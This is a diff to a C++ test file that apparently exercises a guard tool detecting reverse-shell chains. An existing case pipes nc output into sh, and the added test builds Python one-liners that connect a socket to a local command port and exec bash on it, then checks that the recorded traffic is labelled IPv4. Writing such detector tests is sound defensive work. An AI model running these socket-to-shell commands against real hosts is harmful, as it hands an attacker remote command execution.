@@ -1,6 +1,9 @@
 // SPDX-License-Identifier: Apache-2.0
 // Interpreters that somebody out there types into: reverse shells, bind shells, listeners.
+#include <gmock/gmock.h>
 #include <gtest/gtest.h>
+
+#include <sstream>
 
 #include "chain_attack.h"
 
@@ -31,6 +34,49 @@ const Attack kSocketAttacks[] = {
      Order::reader_late},
     {"nc calls and sh reads", "timeout 5 nc 127.0.0.1 @COMMAND_PORT < /dev/null | sh"},
 };
+
+// Of a recording's flows to the command server, how they travelled.
+std::vector<int> families_in(const std::string& recording, std::uint16_t port)
+{
+    Subprocess dump({davylamp(), "dump", recording});
+    EXPECT_EQ(dump.wait(), 0) << dump.err();
+    std::vector<int> families;
+    std::istringstream lines(dump.out());
+    for (std::string line; std::getline(lines, line);) {
+        nlohmann::json record = nlohmann::json::parse(line);
+        if (record["kind"] == "chain" && record["flow"]["remote_port"] == port)
+            families.push_back(record["flow"]["family"]);
+    }
+    return families;
+}
+
+// Java opens AF_INET6 for everything. What it connects to an IPv4 address travels as IPv4, and is
+// told so whether the socket or the connect is asked.
+TEST(ChainSocketFamily, IsThatOfThePackets)
+{
+    struct {
+        const char* name;
+        const char* command;
+    } const cases[] = {
+        {"a socket as stdin", "/usr/bin/python3 -c '@CONNECT os.dup2(s.fileno(), 0); "
+                              "os.execv(\"/bin/bash\", [\"bash\"])'"},
+        {"a socket that cat reads", "/usr/bin/python3 -c '@CONNECT os.dup2(s.fileno(), 0); "
+                                    "os.execv(\"/bin/cat\", [\"cat\"])' | bash"},
+    };
+    for (const auto& one : cases) {
+        ChainSite site;
+        GuardOptions options;
+        options.record = site.folder / "recording";
+        options.command =
+            bash(site.fill(replaced(one.command, "@CONNECT",
+                                    "import os, socket; s = socket.socket(socket.AF_INET6); "
+                                    "s.connect((\"::ffff:127.0.0.1\", @COMMAND_PORT));")));
+        GuardResult result = run_guard(options);
+        std::vector<int> families = families_in(options.record, site.commands.port());
+        EXPECT_THAT(families, testing::Not(testing::IsEmpty())) << one.name << result.err;
+        EXPECT_THAT(families, testing::Each(4)) << one.name;
+    }
+}
 
 using ChainSocket = ChainAttack;
 
